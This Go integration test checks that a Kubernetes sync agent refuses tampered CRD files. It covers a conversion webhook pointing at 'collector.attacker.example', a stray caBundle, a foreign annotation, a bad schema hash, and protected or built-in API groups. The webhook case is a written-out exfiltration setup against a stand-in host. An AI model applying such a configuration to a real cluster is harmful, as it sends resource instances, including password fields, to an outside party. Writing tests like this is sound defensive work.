package integration

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	sigsyaml "sigs.k8s.io/yaml"

	"github.com/bindsync/bindsync/api/v1alpha1"
	"github.com/bindsync/bindsync/internal/staterepo"
)

// TestIntegrationAgentRefusesCRDContentRenderNeverWrites: a commit that
// changes a bound CRD's content into something render could not have
// written (a conversion webhook that would make the app cluster's API server
// POST every instance to an arbitrary URL, a caBundle, a group Kubernetes
// serves, a protected group without approval, a field render never writes, a
// schema hash that is not the schema's) is refused: the CRD on the cluster
// stays as the last good commit made it, and the binding is Ready=False
// Refused, Stalled, with the file and the reason, and an event says so.
func TestIntegrationAgentRefusesCRDContentRenderNeverWrites(t *testing.T) {
	ctx, app := setupAgentTest(t)
	webhook := func(m map[string]any) {
		spec := m["spec"].(map[string]any)
		spec["conversion"] = map[string]any{
			"strategy": "Webhook",
			"webhook": map[string]any{
				"conversionReviewVersions": []any{"v1"},
				"clientConfig":             map[string]any{"url": "https://collector.attacker.example/convert"},
			},
		}
	}
	tests := []struct {
		name string
		// group replaces the kind's group (one render never binds).
		group string
		edit  func(m map[string]any)
		why   string
	}{
		{name: "a conversion webhook with an arbitrary URL", edit: webhook, why: "spec.conversion"},
		{name: "a caBundle under strategy None", why: "spec.conversion", edit: func(m map[string]any) {
			m["spec"].(map[string]any)["conversion"] = map[string]any{"strategy": "None", "webhook": map[string]any{
				"conversionReviewVersions": []any{"v1"}, "clientConfig": map[string]any{"caBundle": "Zm9v", "url": "https://x.example"}}}
		}},
		{name: "a field render never writes", why: "spec.preserveUnknownFields", edit: func(m map[string]any) {
			m["spec"].(map[string]any)["preserveUnknownFields"] = false
		}},
		{name: "a foreign annotation", why: "metadata.annotations.evil.example/x", edit: func(m map[string]any) {
			m["metadata"].(map[string]any)["annotations"].(map[string]any)["evil.example/x"] = "y"
		}},
		{name: "a schema hash that is not the schema's", why: v1alpha1.SchemaHashAnnotation, edit: func(m map[string]any) {
			m["metadata"].(map[string]any)["annotations"].(map[string]any)[v1alpha1.SchemaHashAnnotation] = "0000"
		}},
		{name: "a protected group without its approval annotation", group: "content.bindsync.k8s.io", why: apiextensionsv1.KubeAPIApprovedAnnotation},
		{name: "a group Kubernetes serves itself", group: "coordination.k8s.io", why: "served by Kubernetes itself"},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cluster := "agent-content-" + string(rune('a'+i))
			k := testKind{plural: "vaults", kind: "Vault", group: cluster + ".agent.bindsync.test", fields: map[string]string{"password": "string"}}
			if tt.group != "" {
				k.group = tt.group
			}
			repo := newStateRepo(t)
			createBinding(ctx, t, app, k.name(), "")
			defer deleteBindingNow(ctx, t, app, k.name())
			ag := newTestAgent(t, app, repo, cluster)
			file := staterepo.AppDir(cluster) + "/crds/" + k.name() + ".yaml"

			var before *apiextensionsv1.CustomResourceDefinition
			if tt.edit != nil {
				repo.commit(appFolder(cluster, []testKind{k}, nil))
				_, err := ag.Sync(ctx)
				require.NoError(t, err, "the good commit applies")
				before, err = getCRD(ctx, t, app, k.name())
				require.NoError(t, err)
			}

			files := appFolder(cluster, []testKind{k}, nil)
			if tt.edit != nil {
				m := map[string]any{}
				require.NoError(t, sigsyaml.Unmarshal([]byte(files[file]), &m))
				tt.edit(m)
				data, err := sigsyaml.Marshal(m)
				require.NoError(t, err)
				files[file] = string(data)
			}
			rev := repo.commit(files)
			_, err := ag.Sync(ctx)
			require.NoError(t, err, "a refusal is reported on the binding, not as a failed pass")

			b := getBinding(ctx, t, app, k.name())
			ready := condition(b, v1alpha1.ReadyCondition)
			require.NotNil(t, ready)
			assert.Equal(t, metav1.ConditionFalse, ready.Status)
			assert.Equal(t, v1alpha1.RefusedReason, ready.Reason)
			assert.Contains(t, ready.Message, file)
			assert.Contains(t, ready.Message, tt.why)
			stalled := condition(b, v1alpha1.StalledCondition)
			require.NotNil(t, stalled, "a refused CRD needs a human")
			assert.Equal(t, metav1.ConditionTrue, stalled.Status)
			select {
			case ev := <-ag.events.Events:
				assert.Contains(t, ev, file)
				assert.Contains(t, ev, rev)
			default:
				t.Error("no event for the refused CRD")
			}

			after, err := getCRD(ctx, t, app, k.name())
			if before == nil {
				assert.True(t, apierrors.IsNotFound(err), "nothing applied: %v", err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, before.ResourceVersion, after.ResourceVersion, "the CRD is as the last good commit made it")
			require.NotNil(t, after.Spec.Conversion)
			assert.Equal(t, apiextensionsv1.NoneConverter, after.Spec.Conversion.Strategy)
			assert.Nil(t, after.Spec.Conversion.Webhook, "the API server sends instances nowhere")
		})
	}
}
